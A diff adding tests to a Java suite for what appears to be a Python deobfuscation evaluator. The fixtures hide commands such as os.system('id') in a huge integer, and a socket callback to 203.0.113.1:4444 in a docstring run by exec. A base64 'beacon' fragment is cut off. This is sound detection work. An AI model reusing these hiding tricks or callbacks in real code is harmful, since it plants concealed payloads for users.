@@ -160,6 +160,36 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void codeKeptAsOneHugeIntegerIsDecodedByToBytes() {
+        String code = "import timeit\n"
+                + "_n = int('169415455642870356712023125320766510369046245897475350226806569')\n"
+                + "timeit.timeit(stmt=_n.to_bytes((_n.bit_length() + 7) // 8, 'big').decode(), number=1)\n";
+        PyModel model = evaluate(code);
+        assertThat(model.stages()).singleElement().satisfies(stage -> {
+            assertThat(stage.text()).isEqualTo("import os; os.system('id')");
+            assertThat(stage.chain()).containsExactly("int", "python");
+        });
+        PyModel roundTrip = evaluate("x = int.from_bytes(b'\\x01\\x02', 'little')\nx.to_bytes(3, 'big')\n");
+        assertThat(roundTrip.calls()).extracting(c -> PyValues.repr(c.result())).containsExactly("513");
+        assertThat(roundTrip.decoded()).extracting(d -> PyValues.repr(d.value())).containsExactly("b'\\x00\\x02\\x01'");
+    }
+
+    @Test
+    void codeHiddenInADocstringOrAnAnnotationIsReadBack() {
+        String code = """
+                import code
+                def hints(session: 'import os; os.system("id")' = None) -> 'ret':
+                    \"\"\"import socket; socket.create_connection(('203.0.113.1', 4444))\"\"\"
+                    return []
+                exec(hints.__doc__)
+                code.InteractiveInterpreter().runsource(hints.__annotations__['session'])
+                """;
+        PyModel model = evaluate(code);
+        assertThat(model.stages()).extracting(PyModel.Stage::text).containsExactly(
+                "import socket; socket.create_connection(('203.0.113.1', 4444))", "import os; os.system(\"id\")");
+    }
+
+    @Test
     void base64CodeAssembledButNeverDecodedIsAStageThatDoesNotRun() {
         // The loader that would decode and run it is missing (cut off, or in another file).
         String code = "part_a = 'aW1wb3J0IG9zCmltcG9ydCB1cmxsaWIucmVxdWVzdAoKZGVmIGJlYWNvbigpOgogICAgcmV0dXJuIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3A/dT0nIC'\n"
